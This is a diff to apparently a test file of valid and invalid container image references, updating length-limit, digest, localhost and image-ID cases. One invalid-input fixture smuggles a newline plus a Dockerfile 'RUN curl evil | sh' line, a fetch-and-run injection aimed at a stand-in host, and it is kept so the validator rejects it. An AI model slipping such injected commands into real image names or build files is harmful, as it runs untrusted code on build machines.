@@ -28,7 +28,10 @@ VALID = [
     "gcr.io/distroless/static-debian12:nonroot",
     "ghcr.io/o/app@sha256:" + "a" * 64,
     "Registry.Example.com/app",  # an upper-case host is a host (docker's rule)
-    "a" * 255,
+    "a" * 247,  # library/ + 247: docker's limit is on the normalised path
+    "localhost/" + "a" * 255,
+    "app@sha384:" + "a" * 96,
+    "a" * 64 + ":1",
 ]
 INVALID = [
     ("", "empty"),
@@ -47,7 +50,10 @@ INVALID = [
     ("a b", "spaces"),
     ("x\nRUN curl evil | sh", "control"),
     ("app//x", "path component ''"),
-    ("a" * 256, "longer than 255"),
+    ("a" * 248, "longer than 255"),
+    ("localhost/" + "a" * 256, "longer than 255"),
+    ("a" * 64, "image ID"),
+    ("[::1.2.3.4]/x", "not a registry host"),
     ("a/-b", "path component '-b'"),
     ("a/b_", "path component 'b_'"),
 ]
